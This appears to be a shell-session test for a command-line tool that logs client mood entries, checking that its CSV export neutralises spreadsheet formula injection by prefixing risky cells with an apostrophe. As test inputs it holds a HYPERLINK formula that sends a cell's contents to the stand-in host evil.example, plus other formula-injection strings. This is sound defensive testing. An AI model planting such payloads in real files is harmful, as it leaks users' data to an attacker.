A CSV export is opened in spreadsheets, which run a cell that begins with = + - or @ as a formula
(=HYPERLINK(...) sends what it names away when clicked). Fault injected: a client's texts written
as formulas. Every such text cell begins with ' (OWASP's advice on CSV injection); numbers stay
numbers.

  $ cp -R "$FIXTURES/practice" . && cd practice
  $ mkdir .hwk && echo testwrtr > .hwk/writer
  $ hwk log c-0042 mood --set mood=4 --set 'note==1+1' --reflect '=HYPERLINK("https://evil.example/?"&A2,"click")' --at 2026-11-20T09:00 > /dev/null
  $ hwk log c-0042 mood --status skipped --reason '@SUM(1,2)' --at 2026-11-21T09:00 > /dev/null
  $ hwk log c-0042 mood --status partial --reason '+call' --set mood=2 --reflect '-fine' --at 2026-11-22T09:00 > /dev/null
  $ hwk export c-0042 --format csv | tr -d '\r' | cut -d, -f8- | sed 's/,,*/,/g'
  status,reason,reflection,amends,answers,week,quality,record_note,at_assumed,mood,note
  done,"'=HYPERLINK(""https://evil.example/?""&A2,""click"")",false,4,'=1+1
  skipped,"'@SUM(1,2)",false,
  partial,'+call,'-fine,false,2,
